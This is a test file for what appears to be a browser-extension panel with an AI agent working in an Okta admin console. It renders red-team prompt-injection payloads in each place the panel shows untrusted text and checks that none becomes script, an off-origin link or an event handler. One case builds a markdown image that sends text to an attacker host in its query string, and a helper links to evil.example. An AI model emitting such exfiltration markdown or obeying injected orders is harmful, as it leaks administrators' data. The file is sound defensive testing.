/** What strangers wrote into Okta, in each place where the panel draws text of theirs: it is seen, and does nothing. */
import { act, type ReactNode } from 'react';
import { createRoot, type Root } from 'react-dom/client';
import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import type { FunctionResult } from '../../../backend/contract.ts';
import { ChangeCard } from '../../../extension/changes/card/change-card.tsx';
import { AgentMarkdown } from '../../../extension/chat/said/agent-markdown.tsx';
import { Step } from '../../../extension/chat/step/step.tsx';
import { ConsoleOrigin } from '../../../extension/page/console-origin.ts';
import { ORDERS } from '../../red-team/injection/orders.ts';
import { EVIL, PAYLOADS } from '../../red-team/injection/payloads.ts';
import { change, step } from '../changes/changes.ts';

const CONSOLE = 'https://acme-admin.okta.com';

let place: HTMLElement;
let root: Root;
beforeEach(() => {
  vi.stubGlobal('IS_REACT_ACT_ENVIRONMENT', true);
  place = document.createElement('div');
  document.body.append(place);
  root = createRoot(place);
});
afterEach(async () => {
  await act(async () => root.unmount());
  place.remove();
});

const answered = (result: FunctionResult) => (
  <Step
    step={{ kind: 'step', id: 's', name: 'get_user', arguments: '{"user":"me"}', result: JSON.stringify(result) }}
    running={false}
    onAgain={() => {}}
  />
);

/** Every place of an answer in which a text of Okta’s may stand. */
const table = (text: string) => ({
  title: text,
  columns: ['Name', text],
  rows: [[text, text]],
  ids: [text],
  links: [`//evil.example/${text}`],
  note: text,
});
const target = (name: string) => ({ type: 'user', id: '00u1', login: name, name });

const DRAWN: readonly [where: string, draw: (text: string) => ReactNode][] = [
  ['the agent’s words', (text) => <AgentMarkdown text={text} streaming={false} />],
  [
    'the agent’s words with what carries data away',
    (text) => <AgentMarkdown text={`${text} ![x](${EVIL}/?d=${text})`} streaming />,
  ],
  [
    'a table with a verdict',
    (text) =>
      answered({
        outcome: 'ok',
        ...table(text),
        verdict: { code: text, values: { name: text }, message: text },
        remedies: [{ operationId: 'unlockUser', say: text }],
        sections: [table(text)],
      }),
  ],
  [
    'candidates',
    (text) => answered({ outcome: 'ambiguous', parameter: 'user', said: text, message: text, candidates: [text] }),
  ],
  ['what was not found', (text) => answered({ outcome: 'not_found', message: text })],
  ['a denial', (text) => answered({ outcome: 'denied', relation: text, object: text, message: text })],
  [
    'a failure',
    (text) => answered({ outcome: 'failed', code: 'okta_rejected', message: text, values: { summary: text } }),
  ],
  [
    'the card of a change',
    (text) => (
      <ChangeCard
        change={change({
          summary: text,
          reason: text,
          steps: [step({ targets: [target(text)], before: { status: text } })],
        })}
        onConfirm={async () => undefined}
        onCancel={async () => undefined}
        onWithout={async () => undefined}
      />
    ),
  ],
];

/** Elements that run or load something. */
const ACTIVE = 'script,img,iframe,frame,object,embed,link,style,form,base,meta,video,audio,source,track,portal,applet';
const LEADS = new Set([
  'href',
  'src',
  'srcset',
  'action',
  'formaction',
  'data',
  'poster',
  'background',
  'ping',
  'xlink:href',
]);

/** Each payload, with orders by turns. */
const texts = PAYLOADS.flatMap(({ name, write }, at) => {
  const [order] = ORDERS.slice(at % ORDERS.length);
  return order === undefined ? [] : [{ name, text: write(order) }];
});

test.each(DRAWN)('in %s every payload is text, and no link leads but to the person’s own console', async (_, draw) => {
  const all = texts.map(({ name, text }) => (
    <main key={name} aria-label={name}>
      {draw(text)}
    </main>
  ));
  await act(async () => root.render(<ConsoleOrigin value={CONSOLE}>{all}</ConsoleOrigin>));
  const drawn = [...place.querySelectorAll('main')];
  expect(drawn).toHaveLength(30);
  for (const { textContent, ariaLabel } of drawn) expect(textContent.length, ariaLabel ?? '').toBeGreaterThan(5);
  expect(place.querySelectorAll(ACTIVE)).toHaveLength(0);
  for (const element of place.querySelectorAll('*'))
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on/i);
      if (name === 'style') expect(value).not.toMatch(/url|@import|expression/i);
      if (LEADS.has(name)) expect(value).toMatch(/^https:\/\/acme-admin\.okta\.com\/|^#/);
    }
});
